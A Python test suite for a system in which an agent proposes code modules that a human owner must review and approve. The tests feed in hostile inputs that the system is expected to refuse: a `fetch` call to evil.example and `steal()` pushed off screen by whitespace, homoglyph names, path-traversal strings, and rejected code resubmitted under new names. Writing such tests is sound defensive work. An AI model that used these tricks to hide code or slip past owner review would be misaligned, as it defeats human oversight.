"""Hostile proposals: what an agent may not ask for, and what would have a person agree to something unseen."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st
from pydantic import ValidationError

from neurons import BUILT_IN, Proposal, Refused, Status
from neurons.contracts.neuron import Neuron
from neurons.habits.similarity import parts_of, sketched
from neurons.pipeline.proposal import folded, free_id
from tests.neurons.governance import MAX_CODE_BYTES, Governed, proposal, report_of, seen_as, shown


def refused(match: str, **changes: object) -> None:
    with pytest.raises(Refused, match=match):
        proposal(**changes)


def test_a_proposal_is_read_with_names_of_either_kind():
    wire = {"name": "Sensor", "code": "1", "purpose": "p", "inputSignals": ["tick"], "energyBudget": 0.1}
    plain = {"name": "Sensor", "code": "1", "purpose": "p", "input_signals": ["tick"], "energy_budget": 0.1}
    assert Proposal.of(wire) == Proposal.of(plain)
    assert (Proposal.of(wire).output_signals, Proposal.of(wire).hosts, Proposal.of(wire).tools) == ((), (), ())


@pytest.mark.parametrize(
    "extra", ["status", "id", "approvals", "approvedBy", "metadata", "version", "state", "approve", "shownHash", "seal"]
)
def test_a_proposal_says_nothing_else(extra):
    refused("not permitted", **{extra: "active"})


@pytest.mark.parametrize("missing", ["name", "code", "purpose", "inputSignals", "energyBudget"])
def test_nothing_that_a_person_must_know_is_left_out(missing):
    arguments = proposal().model_dump(mode="json", by_alias=True)
    del arguments[missing]
    with pytest.raises(Refused, match=missing):
        Proposal.of(arguments)


# Names


@pytest.mark.parametrize("name", ["Z", "7 seas", "x" * 61])
def test_a_name_that_is_none_is_refused_in_words(name):
    refused("name: it has 2 to 60 letters, digits, spaces, _ and -, and begins with a letter", name=name)


@pytest.mark.parametrize(
    "name",
    [
        "core.execute",
        "Core",
        "CORE LOOP",
        "CoreLoop",
        "c0re-thing",
        "core_systems",
        "tick",
        "Tick",
        "t1ck",
        "Tick Neuron",
        "hour_changed",
        "Hour Changed",
        "User-Message",
        "energy",
        "Kill Switch",
        "kill_switch",
        "Owner",
        "0wner",
        "Guard",
        "Motor Cortex",
        "neurons",
    ],
)
def test_a_name_does_not_shadow_what_is_built_in(name):
    refused("name", name=name)


@pytest.mark.parametrize(
    "name",
    [
        "",
        "x",
        "x" * 61,
        "x" * 100_000,
        "CryptoPricе",  # with a Cyrillic letter
        "Crypto\u200bPrice",
        "Crypto\u202ePrice",
        "Crypto\nPrice",
        "CryptoPrice\n",
        "CryptoPrice ",
        "Crypto  Price",
        " CryptoPrice",
        "../../etc/passwd",
        "a/b",
        "-rf",
        "--yes",
        "\x1b[31mred",
        "名前",
        "CryptoPrice\ud800",
        "<script>",
        'a"b',
    ],
)
def test_a_name_is_plain_letters_that_show(name):
    refused("name", name=name)


@pytest.mark.parametrize("value", [None, 5, True, ["a"], {"a": 1}, b"\xff"])
def test_a_name_is_a_text(value):
    refused("name", name=value)


@pytest.mark.parametrize(
    "name",
    [
        "CryptoPrice",
        "cryptoprice",
        "CRYPTOPRICE",
        "Crypto Price",
        "crypto-price",
        "Crypto_Price",
        "C-r-y-p-t-o Price",
        "CryptoPr1ce",
        "CryptoPrlce",
        "Crypt0Price",
    ],
)
@pytest.mark.parametrize("stage", ["in_quarantine", "waiting", "in_trial"])
def test_a_name_is_not_like_that_of_another_neuron(name, stage):
    governed = Governed()
    neuron = getattr(governed, stage)(name="CryptoPrice")
    with pytest.raises(Refused, match="existing neurons cannot be changed"):
        governed.in_quarantine(name=name, code="emit('another')")
    assert governed.store.load_all() == [neuron]


def test_letters_that_fonts_make_alike_are_alike():
    assert folded("Modern") == folded("Modem") == folded("m0dern")
    assert folded("vvatch") == folded("watch")
    assert folded("Price 2") != folded("Price 3")


def test_the_name_of_one_that_was_approved_once_stays_taken():
    governed = Governed()
    neuron = governed.in_trial()
    governed.disable(neuron.id, "enough", by="cortex")
    with pytest.raises(Refused, match="existing neurons"):
        governed.in_quarantine(name="Crypto Price", code="emit('another')")


def test_what_failed_can_be_tried_again_under_its_name_as_another_neuron():
    governed = Governed()
    neuron = governed.in_quarantine(name="CryptoPrice")
    failed = governed.judged(neuron.id, report_of(neuron, "it crashed"))
    again = governed.in_quarantine(name="CryptoPrice", code="emit('better')")
    assert (failed.id, again.id) == ("crypto-price", "crypto-price-2")
    assert governed.store.get(failed.id) == failed


def test_a_name_is_not_the_id_of_another():
    governed = Governed()
    neuron = governed.in_quarantine(name="CryptoPrice")
    governed.judged(neuron.id, report_of(neuron, "it crashed"))
    governed.in_quarantine(name="CryptoPrice", code="emit('better')")
    with pytest.raises(Refused, match="crypto-price-2"):
        governed.in_quarantine(name="Crypto Price 2", code="emit('third')")


@given(st.from_regex(r"\A[A-Za-z][A-Za-z0-9 _-]{1,59}\Z"), st.integers(0, 3))
def test_every_name_gets_a_free_id(name, others):
    taken: set[str] = set()
    for _ in range(others + 1):
        found = free_id(name, taken)
        assert found not in taken
        taken.add(found)
        Neuron.__pydantic_validator__.validate_assignment(Governed().in_quarantine(), "id", found)


# What it says


@pytest.mark.parametrize(
    "purpose",
    ["", "   ", "a\nb", "a\rb", "a\tb", "\x1b[2J", "a\u202eb", "a\u200bb", "a\u2028b", "x" * 501, "\ud800", None, 7],
)
def test_a_purpose_is_one_line_that_shows(purpose):
    refused("purpose", purpose=purpose)


def test_a_purpose_may_be_in_any_language():
    assert proposal(purpose=" Ціна біткоїна, 価格 ").purpose == "Ціна біткоїна, 価格"


# What it does


@pytest.mark.parametrize("code", ["", "  \n\t", "\ud800", "a\0b", None, 7, ["x"], "x" * 1_000_001])
def test_code_is_a_text_that_can_be_shown(code):
    refused("code", code=code)


@pytest.mark.parametrize(
    "code",
    [
        "emit('a')" + " " * 300 + "; await fetch('https://evil.example')",
        "emit('a')" + "\t" * 250 + "; steal()",
        "emit('a')" + "\u3000" * 250 + "; steal()",
        "emit('a')" + "\n" * 100 + "steal()",
        "emit('a')" + "\n  \t" * 40 + "steal()",
        "emit('a')" + "\r\n" * 40 + "steal()",
    ],
)
def test_code_is_not_padded_until_the_rest_is_off_the_screen(code):
    refused("padded with blanks", code=code)


def test_code_as_people_write_it_is_fine():
    code = "if (x) {\n" + "\n".join(" " * 40 + f"emit('a', {n})\n\n" for n in range(200)) + "\n}\n"
    assert proposal(code=code).code == code


def test_characters_that_do_not_show_are_left_to_the_view_and_bound_by_the_hash():
    governed = Governed()
    neuron = governed.waiting(code="emit('a\u202eb')")
    assert governed.approve(neuron.id, shown(neuron)).code == "emit('a\u202eb')"


def test_searching_code_for_padding_takes_linear_time():
    """Each of these would take minutes if it were searched from every place."""
    refused_or_not = (
        (" " * 199 + "x") * 1_000,
        ("\n" + " " * 199) * 29 + "x",
        "\n" * 29 + "x",
        (" \n" * 29 + "x") * 2_000,
    )
    for code in refused_or_not:
        assert proposal(code=code).code == code


def test_longer_code_than_the_settings_allow_is_refused():
    governed = Governed()
    with pytest.raises(Refused, match="the code has 13 bytes, 11 are allowed"):
        governed.propose(proposal(code="emit('ü', 1)"[:11] + ";"), max_code_bytes=11)
    assert governed.store.load_all() == []


@pytest.mark.parametrize(
    "signal", [*sorted(BUILT_IN), "user.message", "user_message_", "hour.changed", "t1ck", "core.x", "core"]
)
def test_what_the_cortex_emits_no_neuron_emits(signal):
    refused("outputSignals", outputSignals=["fine", signal])


@pytest.mark.parametrize("signal", ["core.tick", "core", "Tick", "a b", "", "x" * 65, "tick\n", "тick", 5, None])
def test_inputs_are_signals_and_none_of_the_core(signal):
    refused("inputSignals", inputSignals=[signal])


def test_a_neuron_may_listen_to_what_it_emits():
    """Depth and rate stop what comes of that."""
    assert proposal(inputSignals=["a"], outputSignals=["a"]).output_signals == ("a",)


def test_there_is_an_input_and_not_too_many_of_anything():
    refused("inputSignals", inputSignals=[])
    many = [f"s{n}" for n in range(17)]
    for field in ("inputSignals", "outputSignals", "tools"):
        refused(field, **{field: many})
    refused("hosts", tier="network", hosts=[f"h{n}.example" for n in range(17)])
    refused("inputSignals", inputSignals=["s"] * 1_000_000)


def test_what_is_named_twice_counts_once():
    found = proposal(inputSignals=["a", "b", "a"], outputSignals=["x", "x"], tier="network", hosts=["a.example"] * 2)
    assert (found.input_signals, found.output_signals, found.hosts) == (("a", "b"), ("x",), ("a.example",))


@pytest.mark.parametrize("budget", [0, -1, 1.01, float("nan"), float("inf"), "0.1", True, None, 10**400])
def test_a_budget_is_a_share_of_the_energy(budget):
    refused("energyBudget", energyBudget=budget)


@pytest.mark.parametrize(
    "host",
    [
        "",
        "*",
        "*.*",
        "a b",
        "API.example.com",
        "аpi.example.com",  # with a Cyrillic letter
        "ftp://a.example",
        "a.example?x=1",
        "user@a.example",
        "https://user:secret@a.example",
        "a.example\n",
        "x" * 254,
        "file:///etc/passwd",
        5,
    ],
)
def test_a_host_is_a_host(host):
    refused("hosts", tier="network", hosts=[host])


def test_hosts_as_the_settings_take_them():
    hosts = ["api.example.com", "*.example.org", "http://localhost:8000", "a.example:8443"]
    assert proposal(tier="network", hosts=hosts).hosts == tuple(hosts)


def test_a_proposal_with_hosts_needs_the_network_tier():
    refused("network", hosts=["api.example.com"])
    refused("tier", tier="root")


@pytest.mark.parametrize(
    "tool",
    [
        "core.execute",
        "core",
        "Core.say",
        "core_execute",
        "core-x",
        "CORE.consolidate",
        "",
        "a b",
        "a..b",
        "x" * 65,
        "ä",
        "a\n",
        5,
    ],
)
def test_a_tool_is_a_tool_and_none_of_the_core(tool):
    refused("tools", tools=["shop.stock", tool])


_values = st.none() | st.booleans() | st.floats() | st.text(max_size=9) | st.lists(st.text(max_size=9), max_size=3)


@given(st.dictionaries(st.sampled_from([*Proposal.model_fields, "inputSignals", "x"]), _values))
def test_whatever_is_proposed_is_refused_in_words(arguments):
    with pytest.raises(Refused) as caught:
        Proposal.of(arguments)
    assert 0 < len(str(caught.value)) < 500


def test_a_refusal_is_short_whatever_was_proposed():
    with pytest.raises(Refused) as caught:
        proposal(**{"x" * 100_000: 1})
    assert len(str(caught.value)) < 500


def test_a_proposal_cannot_be_changed_after_it_was_checked():
    with pytest.raises(ValidationError):
        proposal().code = "emit('other')"


# How many, and again


def test_three_can_be_pending():
    governed = Governed()
    pending = [governed.in_quarantine(name="One"), governed.waiting(name="Two"), governed.waiting(name="Three")]
    with pytest.raises(Refused, match=r"pending as are allowed \(3\)"):
        governed.in_quarantine(name="Four")
    governed.reject(pending[0].id, "no")
    governed.in_quarantine(name="Four")
    with pytest.raises(Refused, match=r"pending as are allowed \(3\)"):
        governed.in_quarantine(name="Five")


def test_how_many_can_be_pending_is_a_setting():
    governed = Governed(proposals={"max_pending": 1})
    governed.in_quarantine()
    with pytest.raises(Refused, match=r"pending as are allowed \(1\)"):
        governed.in_quarantine(name="Two")


def test_what_has_expired_is_not_pending():
    governed = Governed(proposals={"max_pending": 1, "expires_hours": 1})
    neuron = governed.waiting()
    governed.clock.forward(hours=1)
    governed.in_quarantine(name="Two")
    assert governed.store.get(neuron.id).status is Status.DISABLED


def test_at_most_max_per_day_neurons_are_proposed_in_a_day():
    governed = Governed(proposals={"max_per_day": 2})
    for name in ("One", "Two"):
        neuron = governed.in_quarantine(name=name)
        governed.judged(neuron.id, report_of(neuron, "it crashed"))
    with pytest.raises(Refused, match=r"within a day as are allowed \(2\)"):
        governed.in_quarantine(name="Three")
    governed.clock.forward(hours=24)
    governed.in_quarantine(name="Three")


def test_the_same_code_is_not_proposed_under_a_second_name():
    governed = Governed()
    governed.in_quarantine(name="One", code="emit('a')")
    with pytest.raises(Refused, match='neuron "One" has the same code'):
        governed.in_quarantine(name="Two", code="emit( 'a' )")
    governed.in_quarantine(name="Two", code="emit('a')", inputSignals=["other"])


@pytest.mark.parametrize("again", ["emit('a', 1)", "  emit('a',1)\n", "emit(\n'a',\n1)"])
def test_what_the_owner_rejected_is_not_proposed_again_under_whatever_name(again):
    governed = Governed()
    neuron = governed.waiting(code="emit('a', 1)")
    governed.reject(neuron.id, "polls too often")
    with pytest.raises(Refused, match=r'rejected this as "CryptoPrice" \(polls too often\)'):
        governed.in_quarantine(name="Harmless", code=again, energyBudget=0.5)


def test_rejected_code_of_the_same_shape_is_not_proposed_again():
    governed = Governed()
    neuron = governed.propose(proposal(), found=seen_as("s1"), max_code_bytes=MAX_CODE_BYTES)
    governed.reject(neuron.id, "no")
    other = proposal(name="Harmless", code="emit('b', 2)")
    with pytest.raises(Refused, match="rejected this"):
        governed.propose(other, found=seen_as("s1"), max_code_bytes=MAX_CODE_BYTES)
    assert governed.propose(other, found=seen_as("s2"), max_code_bytes=MAX_CODE_BYTES).status is Status.QUARANTINE


def proposed_again(governed: Governed, parts: dict[str, int], **changes: object) -> Neuron:
    """In other clothes: another name, other code, and these parts."""
    other = proposal(**{"name": "Harmless", "code": "void 0; emit('b', 2)", **changes})
    return governed.propose(other, found=seen_as("s2", **parts), max_code_bytes=MAX_CODE_BYTES)


def test_rejected_code_with_an_extra_line_is_not_proposed_again():
    governed = Governed()
    neuron = governed.propose(proposal(), found=seen_as("s1", aa=6, bb=4), max_code_bytes=MAX_CODE_BYTES)
    governed.reject(neuron.id, "no")
    with pytest.raises(Refused, match='rejected this as "CryptoPrice"'):
        proposed_again(governed, {"aa": 6, "bb": 4, "cc": 5})
    assert proposed_again(governed, {"aa": 6, "bb": 4, "cc": 6}).status is Status.QUARANTINE


def test_the_similarity_setting_decides_what_counts_as_rejected_code():
    governed = Governed(habits={"similarity": 0.95})
    neuron = governed.propose(proposal(), found=seen_as("s1", aa=6, bb=4), max_code_bytes=MAX_CODE_BYTES)
    governed.reject(neuron.id, "no")
    with pytest.raises(Refused, match="rejected this"):
        proposed_again(governed, {"aa": 6, "bb": 4, "cc": 1})
    assert proposed_again(governed, {"aa": 6, "bb": 4, "cc": 5}).status is Status.QUARANTINE


NETWORK = {"tier": "network", "hosts": ["api.example.com"], "tools": ["shop.stock"]}


@pytest.mark.parametrize(
    ("changes", "is_repeat"),
    [
        ({}, True),
        ({"hosts": ["api.example.com", "other.example.com"], "tools": ["shop.stock", "shop.order"]}, True),
        ({"hosts": ["*.example.com"]}, True),
        ({"hosts": ["api.example.org"]}, False),
        ({"tier": "isolated", "hosts": []}, False),
        ({"tools": []}, False),
    ],
)
def test_what_asks_for_less_or_for_something_else_is_not_what_was_rejected(changes, is_repeat):
    governed = Governed()
    neuron = governed.propose(proposal(**NETWORK), found=seen_as("s1", aa=9), max_code_bytes=MAX_CODE_BYTES)
    governed.reject(neuron.id, "no")
    if is_repeat:
        with pytest.raises(Refused, match="rejected this"):
            proposed_again(governed, {"aa": 9, "bb": 1}, **NETWORK | changes)
    else:
        assert proposed_again(governed, {"aa": 9, "bb": 1}, **NETWORK | changes).status is Status.QUARANTINE


def test_what_was_rejected_is_recognised_after_the_owner_has_modified_it_and_gone_back():
    governed = Governed()
    neuron = governed.propose(proposal(), found=seen_as("s1", aa=9), max_code_bytes=MAX_CODE_BYTES)
    governed.reject(neuron.id, "no")
    modified = governed.modify(neuron.id, "emit('mine')")
    assert modified.metadata.shape == ""
    with pytest.raises(Refused, match="rejected this"):
        proposed_again(governed, {"aa": 9, "bb": 1})
    assert governed.rollback(neuron.id, 1).metadata.shape == "s1"
    with pytest.raises(Refused, match="rejected this"):
        proposed_again(governed, {"aa": 9, "bb": 1})


def test_code_of_the_owner_is_recognised_too_once_it_was_tried():
    governed = Governed()
    neuron = governed.modify(governed.waiting().id, "emit('mine')")
    governed.judged(neuron.id, report_of(neuron), found=seen_as("s1", aa=9))
    governed.reject(neuron.id, "no")
    with pytest.raises(Refused, match="rejected this"):
        proposed_again(governed, {"aa": 9, "bb": 1})


def test_a_sketch_that_was_edited_by_hand_is_read_without_its_invalid_parts():
    assert parts_of("aa:9 bb cc: dd:x ee:-1 ff:99999999999 gg:²") == {"aa": 9}
    assert parts_of(sketched({"bb": 1, "aa": 9})) == {"aa": 9, "bb": 1}


@pytest.mark.parametrize("same", [{"name": "Crypto_Price"}, {"habit": "h1"}])
def test_after_three_rejections_of_a_name_or_a_habit_there_is_no_fourth_try(same):
    governed = Governed(proposals={"rejected_days": 2})

    def tried(number: int) -> Neuron:
        name = same.get("name", f"Try {number}")
        code = f"emit('a', {'x' * number}1)"
        made = proposal(name=name, code=code)
        return governed.propose(made, habit=same.get("habit"), max_code_bytes=MAX_CODE_BYTES)

    for number in range(3):
        governed.reject(tried(number).id, "no")
    with pytest.raises(Refused, match="rejected 3 proposals of this name or habit"):
        tried(3)
    governed.in_quarantine(name="Something Else")
    governed.clock.forward(hours=48)
    tried(3)


def test_code_without_a_shape_is_not_of_the_same_shape():
    governed = Governed()
    governed.reject(governed.in_quarantine().id, "no")
    governed.in_quarantine(name="Other")


def test_a_rejection_is_forgotten_in_time():
    governed = Governed(proposals={"rejected_days": 2})
    governed.reject(governed.waiting().id, "no")
    governed.clock.forward(hours=47)
    with pytest.raises(Refused, match="rejected this"):
        governed.in_quarantine(name="Other", code=proposal().code)
    governed.clock.forward(hours=1)
    governed.in_quarantine(name="Other", code=proposal().code)


def test_what_the_owner_disabled_counts_as_rejected_and_what_the_cortex_did_not():
    governed = Governed()
    neuron = governed.in_trial()
    governed.disable(neuron.id, "annoying")
    with pytest.raises(Refused, match="disabled this"):
        governed.in_quarantine(name="Other", code=neuron.code)
    other = governed.in_quarantine(name="Second")
    governed.judged(other.id, report_of(other, "it crashed"))
    with pytest.raises(Refused, match="has failed"):  # not rejected: with other rights it is another try
        governed.in_quarantine(name="Third", code=other.code)
    governed.in_quarantine(name="Third", code=other.code, energyBudget=0.5)


def test_an_earlier_version_that_was_rejected_counts_too():
    governed = Governed()
    neuron = governed.waiting()
    governed.reject(neuron.id, "no")
    governed.modify(neuron.id, "emit('mine')")
    with pytest.raises(Refused, match="rejected this"):
        governed.in_quarantine(name="Other", code=neuron.code)


def test_the_owner_may_come_back_to_what_was_rejected():
    governed = Governed()
    neuron = governed.waiting()
    governed.reject(neuron.id, "no")
    governed.enable(neuron.id)
    asked = governed.judged(neuron.id, report_of(neuron))
    assert governed.approve(asked.id, shown(asked)).status is Status.TRIAL


def test_nothing_is_proposed_that_cannot_be_recorded():
    governed = Governed()
    governed.audit.broken = "no space left"
    with pytest.raises(OSError, match="no space"):
        governed.in_quarantine()
    assert governed.store.load_all() == []
